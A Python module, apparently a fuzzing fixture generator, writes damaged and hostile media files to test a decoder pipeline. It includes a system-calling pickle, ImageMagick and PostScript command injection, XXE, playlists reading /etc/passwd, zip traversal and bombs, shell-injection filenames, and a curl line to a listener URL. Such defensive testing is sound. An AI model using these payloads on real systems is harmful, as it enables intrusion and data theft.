"""Files that nobody should open: honest ones damaged in every way, and ones made to harm, all from one seed.

``hostile`` writes one of them. Wherever a format can name an address, the files name *url*, so that whoever listens
there hears of a decoder that was talked into calling.
"""

import io
import os
import pickle
import random
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path

import numpy as np

Make = Callable[[random.Random, "Sane", str], bytes]

DOORS = {"png": "portrait", "jpg": "portrait", "wav": "sound", "flac": "sound", "ogg": "sound", "mp3": "sound"}


@dataclass(frozen=True)
class Hostile:
    """One file: what it tries (*attack*), which *door* it knocks at (portrait, sound, footage), and where it lies."""

    attack: str
    door: str
    path: Path


@dataclass(frozen=True)
class Sane:
    """Honest files to start from, by extension."""

    files: dict[str, bytes]

    def any(self, rng: random.Random) -> tuple[str, bytes]:
        name = rng.choice(sorted(self.files))
        return name, self.files[name]


def sane(folder: Path) -> Sane:
    """Make a small honest file of every kind that intake allows, in *folder*."""
    import soundfile
    from PIL import Image

    rng = np.random.default_rng(0)
    noise, sound = rng.integers(0, 255, (48, 64, 3), dtype=np.uint8), rng.standard_normal(12_000) * 0.1
    for name in ("sane.png", "sane.jpg"):
        Image.fromarray(noise).save(folder / name)
    for name in ("sane.wav", "sane.flac", "sane.ogg", "sane.mp3"):
        soundfile.write(folder / name, sound, 24_000)
    _film(folder / "sane.mp4")
    return Sane({path.suffix[1:]: path.read_bytes() for path in sorted(folder.glob("sane.*"))})


def hostile(number: int, seed: int, sane: Sane, folder: Path, url: str) -> Hostile:
    """Write file *number* of the run *seed* into *folder*: the attacks take turns, and each turn draws anew."""
    rng = random.Random(f"{seed} {number}")
    attacks = sorted(_ATTACKS) + sorted(_PLACES)
    attack = attacks[number % len(attacks)]
    if attack in _PLACES:
        return _PLACES[attack](attack, folder, sane, rng)
    door, make = _ATTACKS[attack]
    path = folder / f"{number:05d}.{rng.choice(('mp4', 'png', 'wav', 'jpg'))}"
    if door == "its own":
        kind, honest = sane.any(rng)
        path.write_bytes(make(rng, Sane({kind: honest, **sane.files} if attack == "spliced" else {kind: honest}), url))
        return Hostile(f"{attack} {kind}", DOORS.get(kind, "footage"), path)
    path.write_bytes(make(rng, sane, url))
    return Hostile(attack, door, path)


def made(attack: str, sane: Sane, url: str, seed: int = 0) -> tuple[str, bytes]:
    """Return the door and the bytes of a file that tries *attack*, one of those that are made from nothing honest."""
    door, make = _ATTACKS[attack]
    return door, make(random.Random(seed), sane, url)


def attacks() -> list[str]:
    """Return what the files try, by name."""
    return sorted(_ATTACKS) + sorted(_PLACES)


# -- honest files, damaged


def _one(sane: Sane) -> bytearray:
    return bytearray(next(iter(sane.files.values())))


def _flipped(rng: random.Random, sane: Sane, _: str) -> bytes:
    data = _one(sane)
    for _number in range(rng.choice((1, 8, 64))):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(data)


def _overwritten(rng: random.Random, sane: Sane, _: str) -> bytes:
    data, most = _one(sane), rng.choice((64, 1 << 20))
    for _number in range(rng.randrange(1, 16)):
        at = rng.randrange(4, min(len(data), most))
        data[at : at + 4] = rng.choice((b"\xff" * 4, b"\0" * 4, b"\x7f\xff\xff\xff", rng.randbytes(4)))
    return bytes(data)


def _cut(rng: random.Random, sane: Sane, _: str) -> bytes:
    data = _one(sane)
    return bytes(data[: rng.randrange(len(data))])


def _holed(rng: random.Random, sane: Sane, _: str) -> bytes:
    data = _one(sane)
    at = rng.randrange(len(data))
    del data[at : at + rng.randrange(1, 512)]
    return bytes(data)


def _repeated(rng: random.Random, sane: Sane, _: str) -> bytes:
    data = _one(sane)
    at = rng.randrange(len(data))
    return bytes(data[:at] + data[at : at + 200] * rng.randrange(2, 400) + data[at:])


def _spliced(rng: random.Random, sane: Sane, _: str) -> bytes:
    data, (_kind, other) = _one(sane), sane.any(rng)
    return bytes(data[: rng.randrange(12, len(data))] + other[rng.randrange(len(other)) :])


def _followed(rng: random.Random, sane: Sane, url: str) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("index.html", f"<script src='{url}'></script>")
    page = f"<html><img src='{url}'></html>".encode()
    return bytes(_one(sane)) + rng.choice((archive.getvalue(), page, rng.randbytes(4000), b"\0" * 100_000))


# -- other things under the names of media


def _text(template: str) -> Make:
    return lambda _, __, url: template.replace("URL", url).encode()


def _pickled(rng: random.Random, _: Sane, url: str) -> bytes:
    return pickle.dumps({"a": rng.randbytes(20), "url": url}) + b"cos\nsystem\n(S'touch /tmp/pickled'\ntR."


def _zipped(_: random.Random, __: Sane, url: str) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../escaped", url)
        file.writestr("bomb", b"\0" * 20_000_000)
    return archive.getvalue()


def _subtitled(_: random.Random, __: Sane, url: str) -> bytes:
    """An AVI whose subtitles are a playlist: an old way to make a player read any file."""
    said = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n".encode()
    body = b"GAB2\0\x02\0" + struct.pack("<I", 0) + b"\x04\0" + struct.pack("<I", len(said)) + said
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"AVI " + body


def _starts(*starts: bytes) -> Make:
    return lambda rng, _, url: rng.choice(starts) + url.encode() + rng.randbytes(rng.randrange(2000))


# -- pictures


def _png(*chunks: tuple[bytes, bytes], width: int = 8, height: int = 8, rows: bytes | None = None) -> bytes:
    rows = b"".join(b"\0" + b"\x40" * width * 3 for _ in range(height)) if rows is None else rows
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    whole = [(b"IHDR", header), *chunks, (b"IDAT", zlib.compress(rows, 9)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in whole
    )


def _huge_png(rng: random.Random, _: Sane, __: str) -> bytes:
    side = rng.choice((20_000, 60_000, 0x7FFFFFFF))
    return _png(width=side, height=rng.choice((1, 20_000, side)), rows=b"\0" * 2_000_000)


def _nearly_too_large_png(rng: random.Random, _: Sane, __: str) -> bytes:
    return _png(width=8000, height=5000, rows=b"\0" * (24_001 * rng.choice((5000, 4999, 6000))))


def _told_png(rng: random.Random, _: Sane, url: str) -> bytes:
    bomb = zlib.compress(b"\0" * 50_000_000, 9)
    exif = b"Exif\0\0MM\0*\0\0\0\x08" + b"\0\x01\x01\x0e\0\x02" + struct.pack(">II", 2**31 - 1, 8) + url.encode()
    tricks = [(b"zTXt", b"Comment\0\0" + bomb), (b"iCCP", b"profile\0\0" + bomb), (b"eXIf", exif)]
    tricks += [(b"tEXt", b"URL\0" + url.encode()), (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x href='" + url.encode())]
    return _png(*rng.sample(tricks, rng.randrange(1, len(tricks))))


def _moving_png(_: random.Random, __: Sane, ___: str) -> bytes:
    return _png((b"acTL", struct.pack(">II", 0xFFFFFFFF, 0)), *((b"fcTL", b"\xff" * 26),) * 500)


def _huge_jpeg(rng: random.Random, sane: Sane, url: str) -> bytes:
    data = bytearray(sane.files["jpg"])
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(
        ">HH", *rng.choice(((65_500, 65_500), (0, 64), (65_500, 1), (5000, 8000)))
    )
    return bytes(data[:2] + b"\xff\xe1" + struct.pack(">H", len(url) + 8) + b"Exif\0\0" + url.encode() + data[2:])


# -- sounds


def _lying_wav(rng: random.Random, _: Sane, __: str) -> bytes:
    channels, rate, bits = rng.choice(
        ((1, 1, 16), (65_535, 48_000, 16), (1, 0xFFFFFFFF, 16), (0, 48_000, 16), (2, 48_000, 0), (1, 48_000, 65_535))
    )
    head = struct.pack("<HHIIHH", rng.choice((1, 3, 0x55, 0xFFFE)), channels, rate, 0, rng.choice((0, 2)), bits)
    body = b"WAVEfmt " + struct.pack("<I", 16) + head + b"data" + struct.pack("<I", 0xFFFFFFF0) + b"\x10" * 4000
    return b"RIFF" + struct.pack("<I", rng.choice((len(body), 0, 0xFFFFFFFF))) + body


def _long_wav(_: random.Random, __: Sane, ___: str) -> bytes:
    held = io.BytesIO()
    with wave.open(held, "wb") as file:
        file.setparams((1, 1, 8000, 0, "NONE", ""))
        file.writeframes(b"\x80" * (8000 * 601))
    return held.getvalue()


def _lying_flac(rng: random.Random, sane: Sane, _: str) -> bytes:
    data = bytearray(sane.files["flac"])
    # STREAMINFO: 20 bits of rate, 3 of channels, 5 of depth, 36 of the number of samples, from byte 18.
    promised = int.from_bytes(data[18:26], "big")
    lie = rng.choice((2**36 - 1, 2**35, 24_000 * 599, 0))
    data[18:26] = (promised & ~(2**36 - 1) | lie).to_bytes(8, "big")
    return bytes(data)


def _tagged_mp3(rng: random.Random, sane: Sane, url: str) -> bytes:
    link = b"image/-->\0" + b"-->\0\x03\0" + url.encode()
    tags = ((b"WXXX", b"\0\0" + url.encode()), (b"APIC", link))
    frames = b"".join(kind + struct.pack(">IH", len(body), 0) + body for kind, body in tags)
    size = rng.choice((len(frames), 0x0FFFFFFF, 0))
    safe = bytes((size >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + safe + frames + rng.choice((sane.files["mp3"], b"", sane.files["png"]))


# -- video


def _box(kind: bytes, *bodies: bytes) -> bytes:
    body = b"".join(bodies)
    return struct.pack(">I", len(body) + 8) + kind + body


_FTYP = _box(b"ftyp", b"isom\0\0\0\0isommp42")


def _changed(sane: Sane, kind: bytes, change: Callable[[bytearray, int, int], None]) -> bytes:
    """Let *change* edit the honest film in place, given where the box *kind* begins and how long it is."""
    data = bytearray(sane.files["mp4"])
    at = data.index(kind) - 4
    change(data, at, struct.unpack(">I", data[at : at + 4])[0])
    return bytes(data)


def _referring(rng: random.Random, sane: Sane, url: str) -> bytes:
    """The pictures are said to lie elsewhere: in another file, or at an address."""
    kind = rng.choice((b"url ", b"urn ", b"alis"))
    where = _box(
        kind,
        b"\0\0\0\0" + rng.choice((url, "file:///etc/passwd", "/etc/passwd", "concat:/etc/passwd")).encode() + b"\0",
    )
    return _grown(sane, [b"trak", b"mdia", b"minf", b"dinf"], b"dref", _box(b"dref", b"\0\0\0\0\0\0\0\x01", where))


def _grown(sane: Sane, path: list[bytes], old: bytes, new: bytes) -> bytes:
    """Replace the first box *old* of the film by *new*, and let the boxes of *path* and moov around it grow along."""
    data = bytearray(sane.files["mp4"])
    at = data.index(old) - 4
    more = len(new) - struct.unpack(">I", data[at : at + 4])[0]
    data[at : at + len(new) - more] = new
    for kind in (b"moov", *path):
        place = data.index(kind) - 4
        data[place : place + 4] = struct.pack(">I", struct.unpack(">I", data[place : place + 4])[0] + more)
    return bytes(data)


def _timed(rng: random.Random, sane: Sane, _: str) -> bytes:
    """Clocks that run absurdly fast or slow: giant frame rates, durations of years."""

    def change(data: bytearray, at: int, _length: int) -> None:
        data[at + 20 : at + 28] = struct.pack(
            ">II", rng.choice((1, 0, 0xFFFFFFFF, 1_000_000)), rng.choice((0, 0xFFFFFFFF))
        )

    return _changed(sane, b"mdhd", change)


def _promising(rng: random.Random, sane: Sane, _: str) -> bytes:
    """Tables that say they have billions of rows, or samples of gigabytes."""
    kind = rng.choice((b"stsz", b"stts", b"stsc", b"stco", b"ctts", b"elst"))
    if kind not in sane.files["mp4"]:
        kind = b"stsz"

    def change(data: bytearray, at: int, length: int) -> None:
        places = range(at + 12, min(at + length, at + 36), 4)
        for place in rng.sample(list(places), min(len(places), rng.randrange(1, 3))):
            data[place : place + 4] = struct.pack(">I", rng.choice((0xFFFFFFFF, 0x7FFFFFFF, 1 << 28, 0)))

    return _changed(sane, kind, change)


def _crowded(rng: random.Random, sane: Sane, _: str) -> bytes:
    """Hundreds of tracks."""
    data = sane.files["mp4"]
    at = data.index(b"trak") - 4
    track = data[at : at + struct.unpack(">I", data[at : at + 4])[0]]
    return _grown(sane, [], b"trak", track * rng.choice((2, 50, 1500)))


def _nested(rng: random.Random, _: Sane, __: str) -> bytes:
    inside = b""
    for _depth in range(rng.choice((100, 5000))):
        inside = _box(rng.choice((b"moov", b"trak", b"udta", b"meta")), inside)
    return _FTYP + inside + (b"" if inside[4:8] == b"moov" else _box(b"moov"))


def _in_pieces(rng: random.Random, sane: Sane, _: str) -> bytes:
    return sane.files["mp4"] + _box(rng.choice((b"free", b"skip", b"moof", b"mdat"))) * rng.choice((1000, 300_000))


def _misplaced(rng: random.Random, _: Sane, url: str) -> bytes:
    odd = rng.choice((0, 1, 7, 0x7FFFFFFF, 0xFFFFFFFF))
    return _FTYP + _box(b"moov", struct.pack(">I", odd) + b"trak" + url.encode()) + struct.pack(">I", odd) + b"mdat"


def _folded(_: random.Random, __: Sane, ___: str) -> bytes:
    """An index that is compressed, and unfolds to fifty megabytes (QuickTime's cmov)."""
    unfolded = _box(b"moov", b"\0" * 50_000_000)
    packed = struct.pack(">I", len(unfolded)) + zlib.compress(unfolded, 9)
    return _FTYP + _box(b"moov", _box(b"cmov", _box(b"dcom", b"zlib"), _box(b"cmvd", packed)))


def _headed(_: random.Random, __: Sane, url: str) -> bytes:
    return _FTYP + f"#EXTM3U\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n".encode()


def _credited(_: random.Random, sane: Sane, url: str) -> bytes:
    """A credential that is said to lie at an address."""
    told = b"\0\0\0\0" + b"manifest\0" + struct.pack(">Q", 0) + url.encode()
    return sane.files["mp4"] + _box(b"uuid", bytes.fromhex("d8fec3d61b0e483c92975828877ec481"), told)


def _enlarged(rng: random.Random, sane: Sane, _: str) -> bytes:
    """The container promises one size of picture, the pictures are of another."""

    def change(data: bytearray, at: int, _length: int) -> None:
        size = rng.choice(((0xFFFF, 0xFFFF), (0, 0), (3840, 2160), (2, 2)))
        data[at + 32 : at + 36] = struct.pack(">HH", *size)

    return _changed(sane, b"avc1", change)


_ATTACKS: dict[str, tuple[str, Make]] = {
    "bits flipped": ("its own", _flipped),
    "fields overwritten": ("its own", _overwritten),
    "cut short": ("its own", _cut),
    "piece missing": ("its own", _holed),
    "piece repeated": ("its own", _repeated),
    "spliced": ("its own", _spliced),
    "something behind": ("its own", _followed),
    "HLS playlist": ("footage", _text("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nURL\n#EXT-X-ENDLIST\n")),
    "HLS playlist of a local file": ("footage", _text("#EXTM3U\n#EXTINF:1,\nconcat:URL|file:///etc/passwd\n")),
    "ffconcat": ("footage", _text("ffconcat version 1.0\nfile 'URL'\nfile /etc/passwd\n")),
    "DASH with an outside entity": (
        "footage",
        _text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "URL">]><MPD>&x;</MPD>'),
    ),
    "SDP": ("footage", _text("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:URL\n")),
    "SVG": ("portrait", _text('<svg xmlns="http://www.w3.org/2000/svg"><image href="URL"/></svg>')),
    "MVG": (
        "portrait",
        _text("push graphic-context\nviewbox 0 0 9 9\nfill 'url(URL\"|touch \"/tmp/mvg)'\npop graphic-context\n"),
    ),
    "MSL": ("portrait", _text('<image><read filename="URL"/><write filename="/tmp/msl"/></image>')),
    "PostScript": ("portrait", _text("%!PS\n(URL) (r) file\n%pipe%touch /tmp/ps\n")),
    "AVI with a playlist in it": ("footage", _subtitled),
    "pickle": ("footage", _pickled),
    "zip": ("portrait", _zipped),
    "ELF and other programs": (
        "footage",
        _starts(b"\x7fELF\2", b"MZ\x90\0", b"#!/bin/sh\ncurl ", b"\xca\xfe\xba\xbe"),
    ),
    "other formats": (
        "footage",
        _starts(b"\x1aE\xdf\xa3", b"FLV\1", b"OggS\0\2", b"GIF89a", b"\0\0\1\xba"),
    ),
    "other pictures": (
        "portrait",
        _starts(b"GIF89a", b"II*\0", b"RIFF\0\0\0\0WEBP", b"8BPS", b"%PDF-1.7 "),
    ),
    "PNG of gigapixels": ("portrait", _huge_png),
    "PNG of all pixels allowed": ("portrait", _nearly_too_large_png),
    "PNG with bombs beside the picture": ("portrait", _told_png),
    "PNG of endless frames": ("portrait", _moving_png),
    "JPEG of another size": ("portrait", _huge_jpeg),
    "WAV that lies": ("sound", _lying_wav),
    "WAV of ten minutes and a second": ("sound", _long_wav),
    "FLAC that lies": ("sound", _lying_flac),
    "MP3 with addresses in its tag": ("sound", _tagged_mp3),
    "mp4 with outside data": ("footage", _referring),
    "mp4 with absurd clocks": ("footage", _timed),
    "mp4 with tables that lie": ("footage", _promising),
    "mp4 of many tracks": ("footage", _crowded),
    "mp4 nested deeply": ("footage", _nested),
    "mp4 in many pieces": ("footage", _in_pieces),
    "mp4 with impossible sizes": ("footage", _misplaced),
    "mp4 with a folded index": ("footage", _folded),
    "mp4 head on a playlist": ("footage", _headed),
    "mp4 with a credential elsewhere": ("footage", _credited),
    "mp4 with pictures of another size": ("footage", _enlarged),
}


# -- odd places and names


_ODD = (
    *(
        "; touch owned",
        "$(touch owned)",
        "`touch owned`",
        "-i",
        "--help",
        "a\nb",
        "a\rb",
        "\x1b[2J",
        "%s%n",
        "|id",
        "&id",
    ),
    *("\u202egpj", "\udcff\udcfe", "n" * 240, "'\"", "file:x", "concat:a|b", "http:", "pipe:0", " "),
)
_PLACES_ELSEWHERE = ("/etc/passwd", "/dev/zero", "/proc/self/environ", "/proc/self/mem", "/nowhere")


def _odd_name(attack: str, folder: Path, sane: Sane, rng: random.Random) -> Hostile:
    stem = rng.choice(_ODD)
    kind, honest = sane.any(rng)
    path = folder / f"{stem}{rng.randrange(10_000):04d}.{kind}"
    path.write_bytes(_cut(rng, Sane({kind: honest}), "") if rng.random() < 0.5 else honest)
    return Hostile(attack, DOORS.get(kind, "footage"), path)


def _link(attack: str, folder: Path, _: Sane, rng: random.Random) -> Hostile:
    path = folder / f"link-{rng.randrange(1 << 40):x}.png"
    path.symlink_to(rng.choice((*_PLACES_ELSEWHERE, path.name)))
    return Hostile(attack, rng.choice(("portrait", "sound", "footage")), path)


def _pipe(attack: str, folder: Path, _: Sane, rng: random.Random) -> Hostile:
    path = folder / f"pipe-{rng.randrange(1 << 40):x}.mp4"
    os.mkfifo(path)
    return Hostile(attack, rng.choice(("portrait", "sound", "footage")), path)


def _folder(attack: str, folder: Path, _: Sane, rng: random.Random) -> Hostile:
    path = folder / f"folder-{rng.randrange(1 << 40):x}.png"
    path.mkdir()
    return Hostile(attack, rng.choice(("portrait", "sound", "footage")), path)


def _empty(attack: str, folder: Path, _: Sane, rng: random.Random) -> Hostile:
    path = folder / f"empty-{rng.randrange(1 << 40):x}.wav"
    path.write_bytes(rng.randbytes(rng.randrange(12)))
    return Hostile(attack, rng.choice(("portrait", "sound", "footage")), path)


def _sparse(attack: str, folder: Path, sane: Sane, rng: random.Random) -> Hostile:
    """Gigabytes of nothing behind an honest start, which cost the sender nothing."""
    kind, honest = sane.any(rng)
    path = folder / f"sparse-{rng.randrange(1 << 40):x}.{kind}"
    path.write_bytes(honest)
    os.truncate(path, 5 << 30)
    return Hostile(attack, DOORS.get(kind, "footage"), path)


_PLACES: dict[str, Callable[[str, Path, Sane, random.Random], Hostile]] = {
    "odd name": _odd_name,
    "link": _link,
    "pipe": _pipe,
    "folder": _folder,
    "empty or nearly": _empty,
    "gigabytes of nothing": _sparse,
}


def _film(to: Path) -> None:
    """Write a second of film with sound, which an honest camera could have made."""
    import av

    with av.open(str(to), "w") as target:
        picture, sound = target.add_stream("libx264", rate=25), target.add_stream("aac", rate=48_000, layout="mono")
        picture.width, picture.height, picture.pix_fmt = 64, 48, "yuv420p"
        rng = np.random.default_rng(1)
        for number in range(25):
            frame = av.VideoFrame.from_ndarray(rng.integers(0, 255, (48, 64, 3), dtype=np.uint8))
            frame.pts, frame.time_base = number, Fraction(1, 25)
            target.mux(picture.encode(frame))
        for number in range(46):
            noise = av.AudioFrame.from_ndarray(np.zeros((1, 1024), np.float32), format="fltp", layout="mono")
            noise.sample_rate, noise.pts = 48_000, number * 1024
            target.mux(sound.encode(noise))
        target.mux(picture.encode(None))
        target.mux(sound.encode(None))
